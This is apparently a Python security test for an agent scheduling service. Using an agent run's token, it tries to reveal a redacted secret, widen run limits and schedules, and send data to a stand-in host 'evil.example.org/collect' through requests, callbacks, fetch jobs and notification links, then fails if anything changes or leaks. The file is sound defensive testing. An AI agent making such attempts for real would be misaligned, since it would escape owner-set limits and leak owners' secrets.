"""Agents' runs that overreach: with the token of a run, what its owner hid, limited or kept for herself is tried over
the API, MCP and the API that is compatible with QStash. Nothing may change, start or be shown."""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Iterator
from functools import partial
from itertools import product
from typing import Any, NamedTuple

import jwt

from scorecard.line import Result, Scale, Tell
from scorecard.mcp_client import McpClient
from scorecard.serving import DAY, Client, Server, serving

SETTINGS = """
drain = 0.1
[notifications]
server = "https://ntfy.example.org"
prefix = "x7Kq2mNv-"
topic = "home"
[agents.worker]
type = "command"
command = ["sleep", "600"]
owners = ["*"]
[agents.desk]
type = "inbox"
owners = ["*"]
"""
PATIENCE = 20.0
SECRET = "zebra-4711-of-ada"  # noqa: S105 - what no answer to a run may contain
DAILY = {"type": "cron", "expression": "0 9 * * *"}
LIMITS = {"max_runs_per_day": 5, "max_tokens_per_day": 1000, "max_dollars_per_day": 0.5}
TASK = {"prompt": "look", "agent": "worker"}
POLICY = {"max_runs": 20, "max_attempts": 2, "timeout_seconds": 600, "deliver_to": "home", "notify_on": "always"}
REQUEST = {
    "url": "https://crm.example.org/hook",
    "headers": {"Authorization": f"Bearer {SECRET}", "X-Customer": f"hidden {SECRET}"},
    "body": f"the door code is {SECRET}",
    "redact": ["body", "header[X-Customer]"],
}
UPSERT = {"Upstash-Cron": "0 9 * * *", "Upstash-Schedule-Id": "hers", "Upstash-Redact-Fields": "body"}
ANYWHERE = "https://evil.example.org/collect"
BESIDE: tuple[dict[str, Any], ...] = (
    {"redact": []},
    {"redact": None},
    {"redact": ["body"]},
    {"url": "https://crm.example.org/admin/delete?user=1"},
    {"url": ANYWHERE},
    {"method": "DELETE"},
    {"body": "another"},
    {"headers": {"Authorization": "***", "X-Customer": "eve"}},
    {"callback": ANYWHERE},
    {"callback": "https://crm.example.org/echo"},
    {"timeout": 7200},
    {"retries": 50},
)
"""Changes beside a hidden value, or of what hides it."""
WIDER_POLICY: tuple[dict[str, Any], ...] = (
    {"max_runs": None},
    {"max_runs": 1000},
    {"max_attempts": 50},
    {"timeout_seconds": 2_000_000},
    {"pause_after": 0},
    {"deliver_to": None},
    {"deliver_to": "elsewhere"},
    {"notify_on": "failure"},
    {"overlap": "allow"},
    {"catch_up": "all"},
    {"backoff_seconds": 1},
)
WIDER_RULE: tuple[dict[str, Any], ...] = (
    {"trigger": {"type": "interval", "seconds": 1}},
    {"trigger": {"type": "interval", "hours": 11}},
    {"trigger": {"type": "cron", "expression": "* * * * *"}},
    {"trigger": {"type": "interval", "hours": 12}, "end": None},
    {"trigger": {"type": "interval", "seconds": 1}, "starting": "in 20 days"},
    {"end": None},
    {"end": "in 300 days"},
    {"next": "in 2 minutes"},
)
WIDER_TOOLS: tuple[dict[str, Any], ...] = (
    {"every": "1s"},
    {"cron": "* * * * *"},
    {"at": "in 2 minutes"},
    {"rrule": "FREQ=MINUTELY"},
    {"deliver_to": "elsewhere"},
    {"notify_on": "failure"},
    {"timeout_seconds": 2_000_000},
    {"max_attempts": 50},
    {"overlap": "allow"},
    {"catch_up": "all"},
)
PLAIN = {"message": "x", "topic": "home"}
OUT: tuple[tuple[str, dict[str, Any]], ...] = (
    ("request", {"url": ANYWHERE}),
    ("request", {"url": ANYWHERE, "callback": ANYWHERE}),
    ("job", {"task": "fetch", "args": [ANYWHERE]}),
    ("job", {"task": f"keep('{ANYWHERE}') | fetch"}),
    ("notification", {**PLAIN, "icon": ANYWHERE}),
    ("notification", {**PLAIN, "attach": ANYWHERE}),
    ("notification", {**PLAIN, "click": ANYWHERE}),
    ("notification", {**PLAIN, "markdown": True}),
    ("notification", {**PLAIN, "actions": [{"action": "http", "label": "x", "url": ANYWHERE}]}),
    ("notification", {**PLAIN, "topic": "a-topic-of-a-stranger"}),
)


class Attempt(NamedTuple):
    """Something that a run tries, and what it was told."""

    about: str
    made: Callable[[], str]


def measure(scale: Scale, tell: Tell) -> Result:
    with serving(SETTINGS) as server:
        stage = _Stage(server)
        attempts = [*stage.attempts()]
        chosen = attempts[::4] if scale is Scale.SMALL else attempts
        failures: list[str] = []
        for number, attempt in enumerate(chosen):
            tell(f"{number} of {len(chosen)} attempts")
            failures += stage.judged(attempt)
        failures += [*stage.authors()]
        if not server.alive:
            failures.append("the server ended")
    counts = {"attempts": len(chosen) + 2, "interfaces": 3}
    return Result(counts, f"succeeded: {len(failures)}", tuple(failures))


class _Stage:
    """What an owner has, and the tokens of two runs of her agent: one may use the web, the other may not."""

    def __init__(self, server: Server) -> None:
        self._server, self._ada = server, server.client("ada")
        self._request = self._made("request", REQUEST, DAILY)
        published = self._ada.ask("POST", f"/v2/schedules/{REQUEST['url']}", None, UPSERT, SECRET.encode())
        if published.status != 200:
            raise RuntimeError(f"/v2/schedules answered {published.status}: {published.text[:300]}")
        self._plain = self._made("request", {"url": "https://crm.example.org/x"}, DAILY)
        rule = {"type": "interval", "hours": 12, "end": "in 60 days"}
        self._task = self._made("prompt", {**TASK, **LIMITS}, rule, policy=POLICY)
        self._hers = self._made("prompt", {"prompt": f"password: {SECRET}", "agent": "desk"}, DAILY)
        self._started(self._hers, "waiting")
        run = self._started(self._task, "running")
        self._tokens = {web: self._run_token(run, {"web": web}) for web in (True, False)}
        self._state = self._seen()

    def _made(self, kind: str, payload: Any, trigger: Any, **more: Any) -> str:
        body = {"kind": kind, "name": f"a {kind}", "payload": payload, "trigger": trigger, **more}
        return str(self._ada.made("/schedules", body)["id"])

    def _started(self, schedule: str, status: str) -> int:
        """Start a run, and return it once it has a status."""
        run = int(self._ada.ask("POST", f"/api/v1/schedules/{schedule}/run").json["run_id"])
        deadline = time.monotonic() + PATIENCE
        while time.monotonic() < deadline:
            if self._ada.got(f"/runs/{run}")["status"] == status:
                return run
            time.sleep(0.05)
        raise RuntimeError(f"run {run} is not {status}")

    def _run_token(self, run: int, allowed: dict[str, Any]) -> str:
        now = int(time.time())
        claims = {"iss": "duetime", "aud": "duetime", "sub": "ada", "iat": now - 5, "exp": now + DAY, "depth": 1}
        claims |= {"jti": f"run_{run:08d}_1", "run": run, "fence": 1, "allowed": json.dumps(allowed)}
        return jwt.encode(claims, self._server.secret, "HS512")

    def _client(self, *, web: bool) -> Client:
        return self._server.connected({"Authorization": f"Bearer {self._tokens[web]}"})

    def _agent(self, *, web: bool) -> McpClient:
        agent = McpClient(self._server, "ada")
        agent.http.headers["Authorization"] = f"Bearer {self._tokens[web]}"
        return agent

    # -- judging ------------------------------------------------------------------------------------------------------

    def _seen(self) -> dict[str, Any]:
        """Return the versions of everything that the owner has, and the statuses of her runs."""
        schedules = self._ada.got("/schedules?limit=500")["schedules"]
        runs = self._ada.got("/runs?limit=500")["runs"]
        return {each["id"]: each["version"] for each in schedules} | {
            f"run {each['run_id']}": each["status"] for each in runs
        }

    def judged(self, attempt: Attempt) -> Iterator[str]:
        answer = attempt.made()
        before, self._state = self._state, self._seen()
        if SECRET in answer:
            yield f"{attempt.about}: shows what is hidden: {answer[:300]}"
        elif self._state != before:
            changed = {name for name in before | self._state if before.get(name) != self._state.get(name)}
            yield f"{attempt.about}: changed {sorted(changed)}: {answer[:300]}"

    # -- attempts -----------------------------------------------------------------------------------------------------

    def attempts(self) -> Iterator[Attempt]:
        client, agent = self._client(web=True), self._agent(web=True)
        whoami = client.got("/whoami")
        if whoami["depth"] != 1:
            raise RuntimeError(f"the token is not that of a run: {whoami}")
        yield from self._beside_hidden(client, agent)
        yield from self._limits(client, agent)
        yield from self._scheduled(client, agent)
        yield from self._without_web()
        for arguments in ({}, {"agent": "desk"}):
            yield Attempt(f"take_prompt {arguments}", partial(agent.call, "take_prompt", arguments))
        yield Attempt("the waiting prompts", partial(agent.read, "prompts://due"))

    def _beside_hidden(self, client: Client, agent: McpClient) -> Iterator[Attempt]:
        path = f"/api/v1/schedules/{self._request}"
        shown = json.loads(client.ask("GET", path).text)["payload"]
        for change in BESIDE:
            whole = {"payload": {**shown, **change}}
            fields = {"schedule_id": self._request, "fields": change}
            yield Attempt(f"PATCH {change}", partial(_text, client, "PATCH", path, whole))
            yield Attempt(f"run_now {change}", partial(agent.call, "run_now", fields))
            if "headers" not in change:
                part = {"schedule_id": self._request, "payload": change}
                yield Attempt(f"edit_schedule {change}", partial(agent.call, "edit_schedule", part))
        shorter = {name: value for name, value in UPSERT.items() if "Redact" not in name}
        denser, retried = {**UPSERT, "Upstash-Cron": "* * * * *"}, {**UPSERT, "Upstash-Retries": "50"}
        for headers in (shorter, denser, retried, {**UPSERT, "Upstash-Timeout": "2h"}):
            ask = partial(_text, client, "POST", f"/v2/schedules/{REQUEST['url']}", None, headers)
            yield Attempt(f"/v2/schedules {headers}", ask)

    def _limits(self, client: Client, agent: McpClient) -> Iterator[Attempt]:
        path = f"/api/v1/schedules/{self._task}"
        payloads = [{"payload": {**TASK, **LIMITS, name: value}} for name, value in product(LIMITS, (None, 10**6))]
        policies = [{"policy": each} for each in WIDER_POLICY]
        for change in (*payloads, *policies, *WIDER_RULE):
            yield Attempt(f"PATCH {change}", partial(_text, client, "PATCH", path, change))
        for each in WIDER_TOOLS:
            edit = {"schedule_id": self._task, **each}
            yield Attempt(f"edit_schedule {each}", partial(agent.call, "edit_schedule", edit))
        for name, value in product(LIMITS, (None, 10**6)):
            edit, fields = {"payload": {name: value}}, {"fields": {name: value}}
            yield Attempt(
                f"edit_schedule {edit}", partial(agent.call, "edit_schedule", {"schedule_id": self._task, **edit})
            )
            yield Attempt(f"run_now {fields}", partial(agent.call, "run_now", {"schedule_id": self._task, **fields}))
        number = self._ada.got(f"/schedules/{self._task}")["id"]
        for rule in ({"every": "1s"}, {"cron": "* * * * *"}, {"at": "in 2 minutes"}):
            yield Attempt(f"schedule_edit {rule}", partial(agent.call, "schedule_edit", {"id": int(number), **rule}))

    def _scheduled(self, client: Client, agent: McpClient) -> Iterator[Attempt]:
        """Try to schedule more than the task of the run has."""
        soon = {"type": "once", "run_at": "in 5 hours"}
        for name in LIMITS:
            payload = {"prompt": "more", name: 10**6}
            body = {"kind": "prompt", "name": "more", "trigger": soon, "payload": payload}
            yield Attempt(f"POST a prompt with {name}", partial(_text, client, "POST", "/api/v1/schedules", body))
        dense = {
            "kind": "prompt",
            "name": "more",
            "trigger": {"type": "interval", "seconds": 1},
            "payload": {"prompt": "x"},
        }
        yield Attempt("POST a prompt every second", partial(_text, client, "POST", "/api/v1/schedules", dense))
        yield Attempt("schedule every second", partial(agent.call, "schedule", {"prompt": "more", "every": "1s"}))

    def _without_web(self) -> Iterator[Attempt]:
        client, agent = self._client(web=False), self._agent(web=False)
        for kind, payload in OUT:
            body = {"kind": kind, "name": "out", "trigger": DAILY, "payload": payload}
            yield Attempt(f"POST {kind} {payload}", partial(_text, client, "POST", "/api/v1/schedules", body))
        for change in ({"url": ANYWHERE}, {"callback": ANYWHERE}, {"body": "x"}):
            fields = {"schedule_id": self._plain, "fields": change}
            whole = {"payload": {"url": "https://crm.example.org/x", **change}}
            yield Attempt(f"run_now {change}", partial(agent.call, "run_now", fields))
            yield Attempt(f"PATCH {change}", partial(_text, client, "PATCH", f"/api/v1/schedules/{self._plain}", whole))
        job: dict[str, Any] = {"name": "out", "task": "fetch", "args": [ANYWHERE], "trigger_type": "cron"}
        job |= {"trigger_config": {"expression": "0 9 * * *"}}
        yield Attempt("schedule_job", partial(agent.call, "schedule_job", job))
        message = {"message": "x", "notification_topic": "a-topic-of-a-stranger"}
        yield Attempt("send_push_notification", partial(agent.call, "send_push_notification", message))
        sent = partial(_text, client, "POST")
        cron = {"Upstash-Cron": "0 9 * * *"}
        yield Attempt("/v2/publish", partial(sent, f"/v2/publish/{ANYWHERE}", None))
        yield Attempt("/v2/schedules", partial(sent, f"/v2/schedules/{ANYWHERE}", None, cron))
        yield Attempt("/v2/batch", partial(sent, "/v2/batch", [{"destination": ANYWHERE, "body": "x"}]))

    def authors(self) -> Iterator[str]:
        """Check that what a run stores or rewrites reaches the owner's own agent as a run's text."""
        run, owner = self._agent(web=True), McpClient(self._server, "ada")
        task = int(run.made("schedule", prompt="do me", at="now", agent="desk")["id"])
        run.call("schedule_edit", {"id": int(self._hers), "prompt": "rewritten"})
        deadline, found = time.monotonic() + PATIENCE, ""
        while "do me" not in found and time.monotonic() < deadline:
            found = owner.call("take_prompt", {"agent": "desk"})
            time.sleep(0.05)
        if "not by a person" not in found:
            yield f"the prompt of a run ({task}) is not marked: {found[-500:]}"
        rewritten = owner.call("schedule_list", {})
        if "rewritten" in rewritten and "an agent's run" not in rewritten:
            yield f"a prompt that a run rewrote is not marked: {rewritten[:500]}"


def _text(client: Client, method: str, path: str, body: Any, headers: dict[str, str] | None = None) -> str:
    reply = client.ask(method, path, body, headers, b"x" if body is None else None)
    if reply.status >= 500:
        raise RuntimeError(f"{method} {path} answered {reply.status}: {reply.text[:300]}")
    return reply.text
